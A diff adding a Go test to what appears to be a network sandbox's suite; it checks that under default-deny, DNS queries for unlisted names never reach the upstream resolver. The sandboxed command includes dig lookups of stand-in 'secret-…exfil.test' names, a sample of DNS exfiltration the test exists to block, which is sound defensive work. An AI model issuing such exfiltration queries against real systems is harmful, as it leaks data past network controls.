@@ -670,6 +670,53 @@ func TestHostProcGrantsNothing(t *testing.T) {
 	}
 }
 
+// TestUnlistedNamesStayInside: under default deny, an allow-cidr opens
+// addresses, not the resolver. A query is data the command sends out
+// (secret.exfil.test reaches the name's servers through the host's
+// resolver), so a name no rule allows is answered empty and never
+// asked upstream, here a resolver of the test's own that records what
+// it is asked.
+func TestUnlistedNamesStayInside(t *testing.T) {
+	requireRoot(t)
+	pc, err := net.ListenPacket("udp4", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer pc.Close()
+	var mu sync.Mutex
+	var asked []string
+	go func() {
+		buf := make([]byte, 2048)
+		for {
+			n, _, err := pc.ReadFrom(buf)
+			if err != nil {
+				return
+			}
+			mu.Lock()
+			asked = append(asked, string(bytes.ToValidUTF8(buf[12:n], []byte("?"))))
+			mu.Unlock()
+		}
+	}()
+	for _, backend := range backends {
+		t.Run(backend.name, func(t *testing.T) {
+			if backend.u == rootless {
+				withTunOpen(t)
+			}
+			r := run(t, backend.u, append(append([]string{"--dns", pc.LocalAddr().String(), "--default-policy", "deny", "--allow-cidr", "203.0.113.10/32"}, backend.flags...),
+				"--", "sh", "-c", `dig +short +time=2 +tries=1 secret-4711.exfil.test; dig +short +tcp +time=2 +tries=1 secret-4712.exfil.test; curl -sS -m4 -o /dev/null http://203.0.113.10/ && echo reached`)...)
+			time.Sleep(100 * time.Millisecond)
+			mu.Lock()
+			defer mu.Unlock()
+			if len(asked) != 0 {
+				t.Errorf("the upstream resolver was asked %q", asked)
+			}
+			if r.code != 0 || r.stdout != "reached\n" {
+				t.Error(r)
+			}
+		})
+	}
+}
+
 // silentResolver is a UDP socket on the host's loopback that never
 // answers; it returns its address.
 func silentResolver(t *testing.T) string {
